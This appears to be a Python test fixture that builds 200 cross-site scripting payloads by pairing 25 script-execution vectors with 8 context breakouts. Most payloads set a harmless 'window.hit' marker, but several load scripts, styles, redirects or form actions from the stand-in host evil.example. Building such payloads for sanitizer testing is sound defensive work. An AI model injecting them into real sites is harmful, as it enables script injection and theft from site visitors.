"""Two hundred texts that try to be more than text; each would set ``window.hit`` or ask for a page.

Twenty-five ways to run script, each behind eight ways to break out of where a text stands.
"""

from __future__ import annotations

_WAYS = (
    "<script>window.hit={n}</script>",
    "<script src=https://evil.example/{n}.js></script>",
    "<img src=x onerror=window.hit={n}>",
    "<img src='https://evil.example/{n}.png'>",
    "<svg onload=window.hit={n}>",
    "<svg><script>window.hit={n}</script></svg>",
    "<svg><animate onbegin=window.hit={n} attributeName=x dur=1s>",
    "<body onload=window.hit={n}>",
    "<iframe src=javascript:parent.hit={n}></iframe>",
    "<iframe srcdoc='<script>parent.hit={n}</script>'></iframe>",
    "<details open ontoggle=window.hit={n}>",
    "<input autofocus onfocus=window.hit={n}>",
    "<video><source onerror=window.hit={n}></video>",
    "<a href=javascript:window.hit={n}>click {n}</a>",
    "<style>@import 'https://evil.example/{n}.css';</style>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
    "<base href=https://evil.example/{n}/>",
    "<object data=javascript:window.hit={n}></object>",
    "<math><mtext><img src=x onerror=window.hit={n}></mtext></math>",
    "<form action=https://evil.example/{n}><button autofocus>{n}</button></form>",
    "{{{{ window.hit={n} }}}} {{% raw %}} ${{window.hit={n}}}",
    "&lt;script&gt;window.hit={n}&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.hit={n}\\u003c/script\\u003e",
    "javascript:window.hit={n}//",
)
_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</style></svg>",
    "--><!-- -->",
    "]]></text></svg>",
    '" onmouseover="window.hit=1" autofocus onfocus="window.hit=1" x="',
)
PAYLOADS = [
    escape + way.format(n=place * len(_WAYS) + number)
    for place, escape in enumerate(_BREAKS)
    for number, way in enumerate(_WAYS)
]
